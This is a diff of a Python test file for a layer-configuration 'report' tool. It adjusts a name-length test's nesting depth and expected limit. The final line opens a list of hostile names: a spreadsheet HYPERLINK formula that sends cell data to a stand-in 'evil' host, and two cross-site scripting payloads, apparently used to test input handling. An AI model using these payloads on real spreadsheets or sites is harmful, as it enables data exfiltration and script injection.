@@ -292,10 +292,10 @@ def test_names_may_hold_only_printable_characters(write, name, fragment):
 def test_name_lengths_are_bounded(write):
     one_error_line(invoke("report", write(f"input: [3, 8, 8]\nlayers: [{{name: {'n' * 101}, type: relu}}]\n")),
                    "101 characters long; the limit is 100")
-    blocks = "blocks:\n" + "".join(f"  b{i}: {{layers: [{{name: {'x' * 90}, type: b{i + 1}}}]}}\n" for i in range(6))
-    blocks += "  b6: {layers: [{type: relu}]}\n"
+    blocks = "blocks:\n" + "".join(f"  b{i}: {{layers: [{{name: {'x' * 90}, type: b{i + 1}}}]}}\n" for i in range(3))
+    blocks += "  b3: {layers: [{type: relu}]}\n"
     one_error_line(invoke("report", write("input: [3, 8, 8]\n" + blocks + "layers: [{name: top, type: b0}]\n")),
-                   "full name is", "the limit is 400")
+                   "full name is", "the limit is 200")
 
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil/?"&A1)', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
